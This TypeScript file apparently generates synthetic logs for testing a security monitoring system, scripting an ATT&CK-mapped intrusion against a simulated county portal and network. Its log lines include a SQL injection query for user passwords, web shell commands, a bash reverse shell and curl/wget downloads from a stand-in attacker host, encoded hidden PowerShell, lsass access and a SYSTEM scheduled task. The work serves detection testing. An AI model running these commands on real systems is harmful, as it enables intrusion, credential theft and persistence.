import { lineRecord } from './background.ts';
import { ATTACKER, COUNTY } from './county.ts';
import type { Random } from './random.ts';
import type { SimulatedRecord } from './simulated-record.ts';
import { huaweiUsgLine, nsfocusLine, sangforLine } from './sources/firewalls.ts';
import { sshAcceptedLine, sshFailedLine, sudoLine } from './sources/linux.ts';
import { bindLine } from './sources/name-server.ts';
import { netflowV9Datagram } from './sources/netflow-v9.ts';
import { nginxLine } from './sources/web-server.ts';
import { winlogbeatLine } from './sources/windows.ts';

/** One chapter of the attack: what the attacker does, and the ATT&CK technique a watchtower should see in it. */
export interface Chapter {
  readonly id: string;
  /** Hours after the start of the day. */
  readonly hour: number;
  readonly technique: string;
  readonly zh: string;
  readonly en: string;
  records(start: number, random: Random): readonly SimulatedRecord[];
}

const PORTAL = COUNTY.portals[0];
const DOMAIN = COUNTY.portalNames[1];
const BEACHHEAD = COUNTY.servers[0];
const BEACHHEAD_NAME = COUNTY.serverNames[0];
const VICTIM_PC = COUNTY.desktopNames[0];

function web(
  at: number,
  client: string,
  method: string,
  target: string,
  status: number,
  userAgent: string,
): SimulatedRecord {
  const line = nginxLine({ at, client, method, target, status, bytes: 512, userAgent });
  return lineRecord(at, 'syslog-tcp', 'portal-01', line);
}

function scan(start: number, random: Random): readonly SimulatedRecord[] {
  const targets = [
    '/.git/config',
    '/.env',
    '/admin/login',
    '/backup.zip',
    '/phpmyadmin/',
    '/actuator/env',
    '/druid/index.html',
  ] as const;
  return Array.from({ length: 120 }, (_, index) =>
    web(
      start + index * 400,
      ATTACKER.scanner,
      'GET',
      random.pick(targets),
      404,
      'sqlmap/1.8.11#stable (https://sqlmap.org)',
    ),
  );
}

function injection(start: number, random: Random): readonly SimulatedRecord[] {
  return Array.from({ length: 30 }, (_, index) => {
    const at = start + index * 1500;
    const target = `/bsfw/guide?id=${index}%27%20union%20select%20user,password%20from%20sys_user--%20`;
    const attack = {
      at,
      client: ATTACKER.scanner,
      clientPort: random.int(20_000, 60_000),
      server: PORTAL,
      domain: DOMAIN,
      target,
      kind: 'SQL注入',
      blocked: index % 5 !== 0,
    } as const;
    return [
      web(at, ATTACKER.scanner, 'GET', target, index % 5 === 0 ? 200 : 403, 'Mozilla/5.0'),
      lineRecord(at + 20, 'syslog-udp', 'nsfocus-waf', nsfocusLine(attack)),
    ];
  }).flat();
}

function webshell(start: number): readonly SimulatedRecord[] {
  const agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36';
  const shell = '/uploads/2026/11/header.jsp';
  const commands = [
    'whoami',
    'id',
    'cat%20/etc/passwd',
    'ifconfig',
    'wget%20http://203.0.113.250/a.sh%20-O%20/tmp/a.sh',
  ];
  return [
    web(start, ATTACKER.webshell, 'POST', '/api/file/upload?type=avatar', 200, agent),
    lineRecord(
      start + 40,
      'syslog-udp',
      'sangfor-af',
      sangforLine({
        at: start + 40,
        client: ATTACKER.webshell,
        clientPort: 40_112,
        server: PORTAL,
        domain: DOMAIN,
        target: shell,
        kind: 'WEBSHELL',
        blocked: false,
      }),
    ),
    ...commands.map((command, index) =>
      web(start + 60_000 + index * 20_000, ATTACKER.webshell, 'GET', `${shell}?cmd=${command}`, 200, agent),
    ),
  ];
}

function bruteForce(start: number, random: Random): readonly SimulatedRecord[] {
  const failures = Array.from({ length: 180 }, (_, index) => {
    const user = random.pick(['root', 'admin', 'oracle', 'ops', 'test'] as const);
    return lineRecord(
      start + index * 900,
      'syslog-tcp',
      'linux-servers',
      sshFailedLine(start + index * 900, BEACHHEAD_NAME, user, ATTACKER.bruteForcer, random.int(30_000, 60_000)),
    );
  });
  const at = start + 180 * 900;
  return [
    ...failures,
    lineRecord(
      at,
      'syslog-tcp',
      'linux-servers',
      sshAcceptedLine(at, BEACHHEAD_NAME, 'ops', ATTACKER.bruteForcer, 51_022),
    ),
  ];
}

function foothold(start: number): readonly SimulatedRecord[] {
  const commands = [
    "/usr/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.250/4444 0>&1'",
    '/usr/bin/crontab -e',
    '/usr/bin/curl -fsSL http://203.0.113.250/x.sh -o /tmp/.x',
  ];
  return commands.map((command, index) =>
    lineRecord(
      start + index * 30_000,
      'syslog-tcp',
      'linux-servers',
      sudoLine(start + index * 30_000, BEACHHEAD_NAME, 'ops', command),
    ),
  );
}

/** Ports an attacker knocks at inside a network: the well-known ones, then web applications. */
const SCANNED_PORTS: readonly number[] = [
  ...[21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 873, 1433, 1521, 2049, 2375, 3306, 3389, 5432],
  ...[
    5900, 5985, 6379, 7001, 8009, 8080, 8081, 8088, 8161, 8443, 8888, 9000, 9090, 9200, 10_050, 11_211, 27_017, 50_000,
  ],
];

function lateral(start: number): readonly SimulatedRecord[] {
  return ['10.20.5.21', '10.20.5.22'].flatMap((destination, host) =>
    SCANNED_PORTS.map((destinationPort, index) => {
      const at = start + host * 40_000 + index * 400;
      const connection = {
        at,
        source: BEACHHEAD,
        sourcePort: 40_000 + index,
        destination,
        destinationPort,
        protocol: 'TCP',
        allowed: false,
      } as const;
      return lineRecord(at, 'syslog-udp', 'usg-boundary', huaweiUsgLine(connection));
    }),
  );
}

function desktop(start: number): readonly SimulatedRecord[] {
  const event = (offset: number, eventId: number, data: Readonly<Record<string, string>>): SimulatedRecord => {
    const at = start + offset;
    const line = winlogbeatLine({
      at,
      host: VICTIM_PC,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      eventId,
      recordId: 77_000 + offset,
      data,
    });
    return lineRecord(at, 'http', 'windows-agents', line);
  };
  const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  return [
    event(0, 1, {
      Image: powershell,
      CommandLine:
        'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      ParentCommandLine: 'wmiprvse.exe -secured -Embedding',
      User: 'QIAOXIAN\\zhangwei',
      ProcessId: '4120',
    }),
    event(20_000, 10, {
      SourceImage: powershell,
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      GrantedAccess: '0x1010',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|UNKNOWN(0000020F0E1B2C3D)',
      SourceProcessId: '4120',
      TargetProcessId: '640',
    }),
    event(40_000, 1, {
      Image: 'C:\\Windows\\System32\\schtasks.exe',
      CommandLine:
        'schtasks /create /sc minute /mo 10 /tn "WPSUpdate" /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1" /ru SYSTEM',
      ParentImage: powershell,
      ParentCommandLine: 'powershell.exe -nop',
      User: 'QIAOXIAN\\zhangwei',
      ProcessId: '4188',
    }),
  ];
}

function mining(start: number): readonly SimulatedRecord[] {
  return Array.from({ length: 12 }, (_, index) => {
    const at = start + index * 60_000;
    return lineRecord(at, 'syslog-tcp', 'ns1', bindLine(at, BEACHHEAD, 50_000 + index, ATTACKER.miningPool, 'A'));
  });
}

function exfiltration(start: number): readonly SimulatedRecord[] {
  return Array.from({ length: 6 }, (_, index) => {
    const at = Math.floor((start + index * 120_000) / 1000) * 1000;
    const flow = {
      start: at - 110_000,
      end: at,
      source: BEACHHEAD,
      sourcePort: 44_100 + index,
      destination: ATTACKER.dropPoint,
      destinationPort: 443,
      protocol: 6,
      bytes: 1_400_000_000,
      packets: 980_000,
    };
    return {
      at,
      transport: 'netflow',
      source: 'core-switch',
      payload: netflowV9Datagram([flow], at, Math.floor(at / 1000)),
      events: 1,
    };
  });
}

/** The attack woven into the day, in order. */
export const ATTACK_STORY: readonly Chapter[] = [
  {
    id: 'scan',
    hour: 8.2,
    technique: 'T1595',
    zh: '攻击者用 sqlmap 扫描门户网站',
    en: 'The attacker scans the portal with sqlmap',
    records: scan,
  },
  {
    id: 'injection',
    hour: 8.6,
    technique: 'T1190',
    zh: '对办事指南页面发起 SQL 注入，部分绕过 WAF',
    en: 'SQL injection against the service guide, some of it past the WAF',
    records: injection,
  },
  {
    id: 'webshell',
    hour: 9.3,
    technique: 'T1505.003',
    zh: '通过头像上传接口植入网站后门并执行命令',
    en: 'A web shell is uploaded as an avatar and used',
    records: webshell,
  },
  {
    id: 'brute-force',
    hour: 10.1,
    technique: 'T1110',
    zh: '暴力破解应用服务器 SSH 口令并登录成功',
    en: 'SSH password brute force on the application server, then a login',
    records: bruteForce,
  },
  {
    id: 'foothold',
    hour: 10.2,
    technique: 'T1059',
    zh: '以 root 权限反弹 shell 并设置计划任务',
    en: 'A reverse shell as root and a cron job',
    records: foothold,
  },
  {
    id: 'lateral',
    hour: 10.5,
    technique: 'T1046',
    zh: '从应用服务器横向扫描委办局终端',
    en: 'Port scan of bureau desktops from the application server',
    records: lateral,
  },
  {
    id: 'desktop',
    hour: 11.2,
    technique: 'T1059.001',
    zh: '在财政局终端执行编码的 PowerShell 并读取 lsass',
    en: 'Encoded PowerShell and lsass access on a finance-bureau desktop',
    records: desktop,
  },
  {
    id: 'mining',
    hour: 12.1,
    technique: 'T1496',
    zh: '应用服务器解析矿池域名',
    en: 'The application server resolves a mining pool',
    records: mining,
  },
  {
    id: 'exfiltration',
    hour: 13.4,
    technique: 'T1048',
    zh: '向境外地址外传约 8 GB 数据',
    en: 'About 8 GB leave for an outside address',
    records: exfiltration,
  },
];
